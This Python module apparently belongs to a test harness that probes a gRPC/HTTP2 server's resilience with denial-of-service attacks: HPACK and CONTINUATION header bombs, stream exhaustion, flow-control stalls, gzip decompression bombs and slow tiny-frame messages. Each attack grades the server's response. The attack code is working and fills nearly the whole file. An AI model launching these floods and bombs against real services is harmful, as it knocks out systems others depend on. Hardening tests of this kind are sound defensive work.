"""Attacks by whole requests: header blocks that grow, streams without number, messages that lie."""

import functools
import time
import zlib

from attack_target import CONTAINED, CUT, REFUSED, SCALE, SURVIVED, Attacker, Outcome, Target
from attacks_frames import chunked, flood, odd_ids, paced
from frames import (CANCEL, DATA, DEFAULT_FRAME_SIZE, INITIAL_WINDOW_SIZE, LARGEST_WINDOW,
                    PREFACE, REFUSED_STREAM, continuation, data, grpc_fields, grpc_message,
                    headers, settings, window_update)

INVALID_ARGUMENT, RESOURCE_EXHAUSTED = 3, 8
BOMB_BYTES = 256 << 20
# A field that is almost as long as a message may be, behind its tag.
SWOLLEN_FIELD = b"\xf0\xff\xff\x01" + b"a" * 0x3F_FFF0
STALLED_STREAMS = 100
WATCH, WATCHES = "/grpc.health.v1.Health/Watch", 60


def literal(name: bytes, value: bytes) -> bytes:
    """A field that stays out of the dynamic table."""
    def text(octets):
        length = len(octets)
        if length < 127:
            return bytes([length]) + octets
        prefix, length = bytearray([0x7F]), length - 127
        while length >= 128:
            prefix.append(0x80 | length & 0x7F)
            length >>= 7
        return bytes(prefix) + bytes([length]) + octets
    return b"\x00" + text(name) + text(value)


def section(stream: int, block: bytes) -> bytes:
    """A header section of any length in HEADERS and CONTINUATION frames."""
    pieces = [block[at:at + DEFAULT_FRAME_SIZE] for at in range(0, len(block), DEFAULT_FRAME_SIZE)]
    frames = [headers(stream, pieces[0], True, len(pieces) == 1)]
    frames += [continuation(stream, piece, number == len(pieces))
               for number, piece in enumerate(pieces[1:], 2)]
    return b"".join(frames)


# MARK: Header sections

def zero_length_headers(target):
    nothing = literal(b"", b"") * 1000
    return flood(target, lambda _, block: (
        headers(i, block + nothing, True) for i in odd_ids(3000 * SCALE, 3)))


def hpack_bomb(target):
    """One entry of 4 KB in the table, then 16 000 references to it in each block."""
    def frames(attacker, block):
        entry = attacker.encoder.encode([("x-bomb", "b" * 4000)], huffman=False)
        yield headers(3, entry, True)
        # The entry has driven all others out: the request is 83 86 84, POST http /.
        for i in odd_ids(300 * SCALE, 5):
            yield headers(i, b"\x83\x86\x84" + b"\xbe" * 16_000, True)
    return flood(target, frames)


def hpack_bomb_continued(target):
    """The same over CONTINUATION frames: 590 MB in one section."""
    def frames(attacker, block):
        entry = attacker.encoder.encode([("x-bomb", "b" * 4000)], huffman=False)
        yield headers(3, entry, True)
        for i in odd_ids(100 * SCALE, 5):
            yield section(i, b"\x83\x86\x84" + b"\xbe" * (8 * DEFAULT_FRAME_SIZE))
    return flood(target, frames)


def oversized_headers(target):
    """20 KB of fields in each request."""
    large = literal(b"x-large", b"v" * 10_000) * 2
    return flood(target, lambda _, block: (
        section(i, block + large) for i in odd_ids(1000 * SCALE, 3)))


def oversized_headers_one_field(target):
    return flood(target, lambda _, block: (
        section(i, block + literal(b"x-large", b"v" * 100_000)) for i in odd_ids(100, 3)))


# MARK: Streams

def max_streams(target):
    """Opens streams and leaves them open, knowing the limit."""
    return flood(target, lambda _, block: (headers(i, block) for i in odd_ids(5000 * SCALE, 3)))


def max_streams_before_settings(target):
    """The same before it has read the server's SETTINGS: it must be refused, not punished."""
    start = time.monotonic()
    with Attacker(target.port, handshake=False) as attacker:
        block = attacker.encoder.encode(target.fields(), huffman=False)
        indexed = attacker.encoder.encode(target.fields())
        attacker.send(PREFACE, settings(), headers(1, block),
                      *(headers(i, indexed) for i in odd_ids(600, 3)))
        attacker.read_until(lambda _: attacker.resets[REFUSED_STREAM] >= 300, 5)
        outcome = attacker.outcome(start, patience=0.2)
        if attacker.resets[REFUSED_STREAM]:
            return Outcome(REFUSED, f"{attacker.resets[REFUSED_STREAM]} REFUSED_STREAM")
        return outcome


def made_you_reset_early_answer(target):
    """Calls of a method that is not there, never ended: each is answered and then reset."""
    outcome = paced(target, lambda block, i: headers(i, block), 1000, path="/no.such/Method")
    if outcome.kind == SURVIVED:
        outcome.kind = CONTAINED
    return outcome


def data_dribble(target: Target):
    """Opens each window byte by byte: one DATA frame for each byte of answer."""
    with Attacker(target.port, (INITIAL_WINDOW_SIZE, 0)) as attacker:
        block = attacker.encoder.encode(target.fields(), huffman=False)
        attacker.send(headers(1, block), data(1, target.message, True))
        block = attacker.encoder.encode(target.fields())
        streams = odd_ids(STALLED_STREAMS, 3)
        attacker.send(*(headers(i, block) + data(i, target.message, True) for i in streams))
        outcome = attacker.flood(chunked(
            window_update(i, 1) for _ in range(300 * SCALE) for i in streams))
        if outcome.kind == SURVIVED:
            outcome.kind = CONTAINED
        return outcome


def _stalled(target: Target, seconds: float, *own_settings, **options) -> Outcome:
    """Asks for large answers on many streams and takes nothing."""
    start = time.monotonic()
    with Attacker(target.port, *own_settings, **options) as attacker:
        attacker.send(window_update(0, LARGEST_WINDOW - 65_535))
        block = attacker.encoder.encode(target.fields(), huffman=False)
        attacker.send(headers(1, block), data(1, target.message, True))
        block = attacker.encoder.encode(target.fields())
        attacker.send(*(headers(i, block) + data(i, target.message, True)
                        for i in odd_ids(STALLED_STREAMS, 3)))
        if options:
            # Reads nothing at all until the end.
            time.sleep(seconds)
            outcome = attacker.outcome(start)
        else:
            outcome = attacker.outcome(start, patience=seconds)
        return outcome if outcome.kind == CUT else _judged(attacker, outcome)


def _judged(attacker: Attacker, outcome: Outcome) -> Outcome:
    """The connection lives: have its streams been taken away?"""
    if attacker.resets[CANCEL] >= STALLED_STREAMS:
        return Outcome(CUT, f"{attacker.resets[CANCEL]} streams", outcome.seconds)
    return Outcome(CONTAINED, f"{outcome.seconds:.0f} s without a window", outcome.seconds)


def window_stall(target, seconds):
    return _stalled(target, seconds, (INITIAL_WINDOW_SIZE, 0))


def internal_buffering(target, seconds):
    """Windows wide open and a socket that nobody reads."""
    return _stalled(target, seconds, (INITIAL_WINDOW_SIZE, LARGEST_WINDOW), receive_buffer=4096)


# MARK: Messages

def _each_refused(target: Target, count: int, send_one) -> Outcome:
    """Sends bombs one behind the other; each has to be answered RESOURCE_EXHAUSTED."""
    start = time.monotonic()
    with Attacker(target.port) as attacker:
        for number in range(count * SCALE):
            answer = send_one(attacker)
            if answer.closed or answer.goaway:
                return attacker.outcome(start)
            if answer.grpc_status != RESOURCE_EXHAUSTED:
                return Outcome(SURVIVED, f"answered {answer.grpc_status} {answer.reset}")
    return Outcome(REFUSED, f"{number + 1} times status 8", time.monotonic() - start)


def grpc_length_bomb(target):
    """Announces 4 GiB and sends nothing of it."""
    return _each_refused(target, 50, lambda attacker: attacker.call(
        target.path, grpc_message(b"", length=0xFFFFFFFF), end=False))


@functools.cache
def bomb() -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    pieces = [packer.compress(bytes(1 << 20)) for _ in range(BOMB_BYTES >> 20)]
    return b"".join(pieces) + packer.flush()


def grpc_gzip_bomb(target):
    """256 MiB of zeros in a quarter of a megabyte of gzip."""
    return _each_refused(target, 10, lambda attacker: attacker.call(
        target.path, grpc_message(bomb(), flag=1), grpc_encoding="gzip"))


def grpc_gzip_swelling(target):
    """Messages of 4 KB that become almost 4 MiB of zeros, which is below the limit, on as many
    streams as there may be: all are answered, beside the honest client's calls."""
    start, count = time.monotonic(), 100
    swollen = grpc_message(zlib.compress(bytes((4 << 20) - 1), 9, 31), flag=1)
    with Attacker(target.port) as attacker:
        for _ in range(count * SCALE):
            stream = attacker.open(target.fields(grpc_encoding="gzip"))
            attacker.send(data(stream, swollen, True))
        attacker.read_until(lambda _: len(attacker.ended) >= count * SCALE, 30)
        seconds = time.monotonic() - start
        if attacker.closed or attacker.goaways:
            return attacker.outcome(start)
        kind = CONTAINED if len(attacker.ended) >= count * SCALE else SURVIVED
        return Outcome(kind, f"{len(attacker.ended)} answered", seconds)


@functools.cache
def empty_blocks() -> bytes:
    """Almost 4 MiB of blocks that each describe 257 codes and use but the one for their end (RFC
    1951, section 3.2.7): nothing takes so long to inflate to nothing."""
    lengths_of_lengths = [{18: 1, 0: 2, 1: 2}.get(length, 0) for length in (
        16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1)]
    zeros_138, zeros_118 = [(0, 1), (127, 7)], [(0, 1), (107, 7)]
    bits = [(0, 1), (2, 2), (0, 5), (0, 5), (len(lengths_of_lengths) - 4, 4),
            *((length, 3) for length in lengths_of_lengths),
            *zeros_138, *zeros_118, (0b11, 2), (0b01, 2), (0, 1)]
    block, size = 0, 0
    for value, width in bits:
        block, size = block | value << size, size + width
    # Eight of them end with a byte.
    eight = sum(block << size * n for n in range(8)).to_bytes(size, "little")
    head, end = b"\x1f\x8b\x08" + bytes(6) + b"\xff", b"\x01\x00\x00\xff\xff" + bytes(8)
    return head + eight * ((4 << 20) // len(eight) - 1) + end


def grpc_gzip_of_nothing(target):
    """Messages of 4 MiB that are empty, and take half a second of work to be found so."""
    start, count = time.monotonic(), 5
    with Attacker(target.port) as attacker:
        for _ in range(count * SCALE):
            answer = attacker.call(
                target.path, grpc_message(empty_blocks(), flag=1), grpc_encoding="gzip")
            if answer.closed or answer.goaway:
                return attacker.outcome(start)
            if answer.grpc_status is None:
                return Outcome(SURVIVED, f"answered {answer.reset}")
    return Outcome(CONTAINED, f"{count} answered", time.monotonic() - start)


def _watches(target: Target, message: bytes, is_answered, expected: str) -> Outcome:
    """Asks to watch health, which anybody may, by messages of 4 KB that become almost 4 MiB; what
    the server keeps of them is measured while the connection lives."""
    start, answered = time.monotonic(), set()
    swollen = grpc_message(zlib.compress(message, 9, 31), flag=1)
    with Attacker(target.port) as attacker:
        for _ in range(WATCHES):
            stream = attacker.open(grpc_fields(WATCH, grpc_encoding="gzip"))
            attacker.send(data(stream, swollen, True))

        def note(came):
            if is_answered(came):
                answered.add(came.stream)
            return len(answered) == WATCHES
        attacker.read_until(note, 30)
        seconds = time.monotonic() - start
        attacker.read_for(0.3)
        if attacker.closed or attacker.goaways:
            return attacker.outcome(start)
        kind = expected if len(answered) == WATCHES else SURVIVED
        return Outcome(kind, f"{len(answered)} answered", seconds)


def health_watch_swelling(target):
    """The long part is a field that nobody knows: these watches are served."""
    return _watches(target, b"\xfa\x01" + SWOLLEN_FIELD, lambda came: came.kind == DATA, CONTAINED)


def health_watch_long_name(target):
    """The long part is the name of the service to watch."""
    refusal = ("grpc-status", str(INVALID_ARGUMENT))
    return _watches(target, b"\x0a" + SWOLLEN_FIELD,
                    lambda came: refusal in (came.fields or []), REFUSED)


def grpc_tiny_frames(target):
    """A message of 60 KB, a byte in each DATA frame: valid, so it is answered, in linear time."""
    start = time.monotonic()
    # An unknown field of 60 000 bytes behind the known ones.
    message = grpc_message(target.body + b"\xfa\xff\x07\xe0\xd4\x03" + bytes(60_000))
    with Attacker(target.port) as attacker:
        for _ in range(3 * SCALE):
            stream = attacker.open(target.fields())
            attacker.send(*(data(stream, message[at:at + 1]) for at in range(len(message))),
                          data(stream, end=True))
            answer = attacker.answer(stream)
            if answer.closed or answer.goaway:
                return attacker.outcome(start)
            if answer.grpc_status != 0:
                return Outcome(SURVIVED, f"answered {answer.grpc_status} {answer.reset}")
    return Outcome(CONTAINED, "answered", time.monotonic() - start)
